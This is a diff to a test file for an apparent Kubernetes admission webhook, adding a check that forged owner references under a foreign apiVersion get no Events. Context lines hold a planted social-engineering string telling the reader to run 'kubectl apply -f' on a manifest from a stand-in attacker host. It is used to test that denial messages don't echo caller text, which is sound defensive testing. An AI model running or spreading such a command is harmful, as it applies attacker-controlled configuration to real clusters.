@@ -246,6 +246,15 @@ test('a direct caller: Events only on owners that exist with the uid its review 
   await recorder.settled();
   t.is(api.kubeEvents.size, 0);
   t.is(recorder.unverified, 11);
+  // The real one's kind, name and uid under another apiVersion: not that object.
+  const elsewhere = pod();
+  elsewhere.metadata.ownerReferences = [
+    { apiVersion: 'evil.example.com/v1', kind: 'ReplicaSet', name: 'web-7c9d', uid: 'uid-replicasets-other-web-7c9d', controller: true },
+  ];
+  await server.post(createReview(prepareCreate(elsewhere, 'other'), { namespace: 'other' }));
+  await recorder.settled();
+  t.is(api.kubeEvents.size, 0);
+  t.is(recorder.unverified, 12);
   // An owner reference without a uid (the API server stores none such): the Event goes on the namespace.
   await server.post(claiming('web-7c9d', undefined));
   // The real one with its uid: written, although the forged ones came first.
@@ -253,7 +262,7 @@ test('a direct caller: Events only on owners that exist with the uid its review 
   await recorder.settled();
   t.deepEqual([...api.kubeEvents.values()].map((e) => `${e.regarding.kind}/${e.regarding.name}`).sort(), ['Namespace/other', 'ReplicaSet/web-7c9d']);
   t.is(api.objectGets.filter((p) => p === '/apis/apps/v1/namespaces/other/replicasets/web-7c9d').length, 2, 'one check per claim, its answer kept');
-  t.is(dropped, 11);
+  t.is(dropped, 12);
   // A denial that would quote the caller's words: the reason only, and a pod name only if it is one.
   const words = 'SECURITY NOTICE: run kubectl apply -f https://evil.example/fix.yaml';
   const forged = pod({ annotations: { 'sidecar-injector.io/templates': words } });
